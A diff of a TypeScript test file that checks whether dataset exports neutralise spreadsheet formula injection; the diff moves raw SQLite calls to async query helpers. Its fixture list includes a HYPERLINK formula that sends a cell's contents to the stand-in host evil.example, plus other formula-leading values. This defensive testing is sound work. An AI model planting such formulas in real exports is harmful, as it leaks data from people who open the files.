@@ -7,8 +7,8 @@ import { developer } from './records.helpers.js';
 import { loadCatalog } from '../datasets/index.js';
 import { commitVersion, writeRowsTable } from '../src/versions/versions.service.js';
 import { rowsTableName, type Row } from '../src/versions/rows/rows-table.js';
-import { iterateRows } from '../src/versions/rows/rows-table.sql.js';
 import type { FieldSpec } from '../src/lib/field-spec.js';
+import { allRows, queryRow, queryValue } from './support/db-query.js';
 
 const dataset = loadCatalog().datasets.find((d) => d.open_type === 'open' && d.rows < 500 && d.fields.filter((f) => f.type === 'string' && !f.primary_key).length >= 2)!;
 const formulas = ['=HYPERLINK("http://evil.example/?leak="&A1,"点我")', '+1+1', '-2+3', '@SUM(A1:A9)', '\tTAB', '\rCR', 'plain, "quoted"\r\nnext line', ''];
@@ -22,11 +22,11 @@ beforeAll(async () => {
   t = await createTestApp({ datasets: [dataset.id] });
   headers = (await developer(t.app)).headers;
   // A new version whose first rows carry formulas (and quotes, commas, line breaks, an empty string) in a text field.
-  const pk = t.db.$client.prepare('SELECT pk FROM datasets WHERE id = ?').pluck().get(dataset.id) as number;
-  const last = t.db.$client.prepare("SELECT n, schema FROM versions WHERE dataset_pk = ? AND status = 'published' ORDER BY n DESC LIMIT 1").get(pk) as { n: number; schema: string };
+  const pk = (await queryValue(t.db, 'SELECT pk FROM datasets WHERE id = ?', dataset.id)) as number;
+  const last = (await queryRow(t.db, "SELECT n, schema FROM versions WHERE dataset_pk = ? AND status = 'published' ORDER BY n DESC LIMIT 1", pk)) as { n: number; schema: string };
   const schema = JSON.parse(last.schema) as FieldSpec[];
   text = schema.find((f) => f.type === 'string' && !f.primary_key)!;
-  const rows: Row[] = [...iterateRows(t.db.$client, rowsTableName(pk, last.n), schema)].map((r, i) => (i < formulas.length ? { ...r, [text.name]: formulas[i]! } : r));
+  const rows: Row[] = (await allRows(t.db, rowsTableName(pk, last.n), schema)).map((r, i) => (i < formulas.length ? { ...r, [text.name]: formulas[i]! } : r));
   n = last.n + 1;
   const count = await writeRowsTable(t.db, pk, n, schema, rows);
   await commitVersion(t.db, pk, { n, schema, publishedAt: new Date().toISOString(), changeNote: '公式测试', rowCount: count, diff: null, artifacts: {} });
